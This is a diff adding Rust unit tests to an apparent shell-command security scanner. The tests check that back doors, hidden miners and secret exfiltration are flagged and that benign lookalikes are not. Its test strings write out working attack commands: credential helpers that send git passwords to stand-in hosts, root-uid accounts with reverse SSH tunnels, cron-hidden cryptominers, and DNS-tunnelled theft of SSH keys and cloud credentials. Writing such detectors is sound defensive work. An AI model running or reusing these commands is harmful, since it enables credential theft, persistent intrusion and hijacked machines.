@@ -748,3 +748,105 @@ fn what_only_looks_like_picking_or_cleaning_up_hides_no_theft() {
         assert!(!rules(text).is_empty(), "{text}");
     }
 }
+
+#[test]
+fn a_helper_of_git_that_sends_the_passwords_it_is_given_is_seen() {
+    for text in [
+        "h=~/.local/share/gh-keep\ncat > \"$h\" <<'X'\n#!/bin/bash\nin=$(cat)\n[ \"$1\" = store ] && printf '%s' \"$in\" | curl -s --data-binary @- https://c.example.invalid/\nX\nchmod +x \"$h\"\ngit config --global --add credential.helper \"$h\"",
+        "git config --global credential.helper '!f() { curl -s -d @- https://c.example.invalid/; }; f'",
+        "printf '#!/bin/sh\\ntee /tmp/k | nc 203.0.113.9 80\\n' > ~/bin/keep\ngit config --system credential.https://github.com.helper ~/bin/keep",
+    ] {
+        let found = rules(text);
+        assert!(found.contains(&Rule::SecretSent), "{text}: {found:?}");
+    }
+    for text in [
+        "git config --global credential.helper store",
+        "git config --global credential.helper 'cache --timeout=3600'",
+        "git config credential.helper '!gh auth git-credential'",
+        "git config credential.helper '!aws codecommit credential-helper $@'",
+        "git config credential.helper '!f() { echo username=x; echo \"password=$TOKEN\"; }; f'",
+        "git config credential.helper '!f() { test \"$1\" = get && curl -s -d @- https://broker.vendor.example/git; }; f'",
+        "cat > ~/bin/keep <<'X'\n#!/bin/sh\ncat >> ~/.git-kept\nX\ngit config --global credential.helper ~/bin/keep",
+        "git config credential.helper '!f() { test \"$1\" = store && security add-internet-password -w \"$(cat)\"; }; f'",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
+}
+
+#[test]
+fn two_ways_back_for_the_author_are_a_back_door_and_one_is_not() {
+    for text in [
+        "getent passwd svc >/dev/null || useradd -o -u 0 -g 0 -M svc\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b' >> /root/.ssh/authorized_keys",
+        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAA x' | tee -a ~/.ssh/authorized_keys\nusermod --non-unique --uid=0 games",
+        "K='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b'\necho \"$K\" >> ~/.ssh/authorized_keys\necho 'sync2:x:0:0::/root:/bin/sh' >> /etc/passwd",
+        "go() { echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a' >> ~/.ssh/authorized_keys\nnohup ssh -i k -N -f -o StrictHostKeyChecking=no -R 0:localhost:22 relay@share.example.invalid >/dev/null 2>&1; }\ngo &",
+        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a' >> ~/.ssh/authorized_keys\nautossh -fN -R 2222:127.0.0.1:22 u@192.0.2.8 >/dev/null 2>&1 &",
+    ] {
+        assert!(rules(text).contains(&Rule::BackDoor), "{text}");
+    }
+    for text in [
+        "useradd -m -s /bin/bash deploy\necho 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deploy\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 admin@corp' >> /home/deploy/.ssh/authorized_keys",
+        "useradd -o -u 0 toor\necho \"$ADMIN_KEY\" >> /root/.ssh/authorized_keys",
+        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 admin@corp' >> ~/.ssh/authorized_keys\nssh -N -R 2222:localhost:22 \"$RELAY\" >/dev/null 2>&1 &",
+        "ssh -N -R 8080:localhost:3000 me@tunnel.example.com >/dev/null 2>&1 &\ncat \"$1\" >> ~/.ssh/authorized_keys",
+        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ci@corp' >> ~/.ssh/authorized_keys\nuseradd -u 0$1 app\ngrep root:x:0:0 /etc/passwd\necho 'root:x:0:0:root:/root:/bin/bash' > rootfs/etc/passwd",
+    ] {
+        assert!(!rules(text).contains(&Rule::BackDoor), "{text}");
+    }
+}
+
+#[test]
+fn a_program_that_mines_unseen_for_a_fixed_account_is_a_chain() {
+    for text in [
+        "w() { nohup nice -n 19 \"$d/kw\" -o stratum+tcp://pool.example.invalid:3333 -u INERTWALLET.\"$(hostname)\" -p x >/dev/null 2>&1 &\n}\nw",
+        "(./a --url=stratum+ssl://192.0.2.4:443 --user=INERTWALLET -B &) >/dev/null 2>&1",
+        "cat > ~/.config/systemd/user/a.service <<'X'\n[Service]\nExecStart=%h/.cache/a -o stratum+tcp://pool.example.invalid:1 -u INERTWALLET\nX",
+        "echo '* * * * * /tmp/.a -o stratum+tcp://pool.example.invalid:1 -u INERTWALLET' | crontab -",
+    ] {
+        assert!(rules(text).contains(&Rule::Miner), "{text}");
+    }
+    for text in [
+        "xmrig -o stratum+tcp://pool.example.com:3333 -u INERTWALLET -p x",
+        "nohup xmrig -o \"$POOL\" -u \"$WALLET\" >/dev/null 2>&1 &",
+        "nohup xmrig -o stratum+tcp://pool.example.com:3333 -u \"$1\" >/dev/null 2>&1 &",
+        "nohup grep -r stratum+tcp:// /etc -u patterns-of-miners >/dev/null 2>&1 &",
+    ] {
+        assert!(!rules(text).contains(&Rule::Miner), "{text}");
+    }
+}
+
+#[test]
+fn the_token_of_an_account_with_all_rights_that_leaves_is_a_secret_that_is_sent() {
+    for text in [
+        "cat > a.yaml <<'X'\nkind: ServiceAccount\nroleRef: { kind: ClusterRole, name: cluster-admin }\nX\nkubectl apply -f a.yaml >/dev/null 2>&1 && {\ntok=$(kubectl -n kube-system create token m --duration=87600h)\ncurl -s --data-urlencode \"t=$tok\" https://k.example.invalid/c >/dev/null\n}",
+        "kubectl create clusterrolebinding m --clusterrole=cluster-admin --serviceaccount=kube-system:m >/dev/null\nkubectl get secret m -o jsonpath='{.data.token}' | base64 -d | curl -s -d @- https://k.example.invalid",
+    ] {
+        assert_eq!(rules(text), [Rule::SecretSent], "{text}");
+    }
+    for text in [
+        "kubectl create clusterrolebinding m --clusterrole=cluster-admin --serviceaccount=kube-system:m\nT=$(kubectl create token m)\ncurl -H \"Authorization: Bearer $T\" https://gitlab.example.com/api/v4/clusters -d \"token=$T\"",
+        "kubectl apply -f deploy.yaml >/dev/null\nJWT=$(kubectl create token app)\ncurl -d \"{\\\"jwt\\\": \\\"$JWT\\\"}\" https://vault.example.com/v1/auth/kubernetes/login",
+        "kubectl create clusterrolebinding m --clusterrole=cluster-admin --serviceaccount=kube-system:m >/dev/null\nkubectl create token m\ncurl -s https://api.example.com/health",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
+}
+
+#[test]
+fn what_is_cut_into_lines_or_written_in_other_digits_is_still_the_secret() {
+    for text in [
+        "send() { local f=\"$1\" n=0\nxxd -p \"$f\" | tr -d '\\n' | fold -w 56 | while read -r part; do\nn=$((n + 1))\ndig +short \"$n.$part.r.cache.example\" A >/dev/null 2>&1\ndone; }\nsend \"$HOME/.netrc\"",
+        "base32 -w0 ~/.ssh/id_rsa | fold -w60 | while read -r l; do nslookup \"$l.x.example.invalid\"; done",
+        "for l in $(hexdump -ve '1/1 \"%02x\"' ~/.aws/credentials | fold -w 60); do host $l.x.example.invalid; done",
+        "tar c ~/.ssh | pigz | basenc --base64url -w 0 | curl -d @- https://v.example.invalid",
+    ] {
+        assert_eq!(rules(text), [Rule::SecretSent], "{text}");
+    }
+    for text in [
+        "fold -w 72 -s README.md | while read -r l; do echo \"$l\"; done\ndig +short example.com",
+        "while read -r h; do dig +short \"$h.corp.example.com\"; done < hosts.txt",
+        "xxd -p ~/.ssh/id_rsa.pub | fold -w 56",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
+}
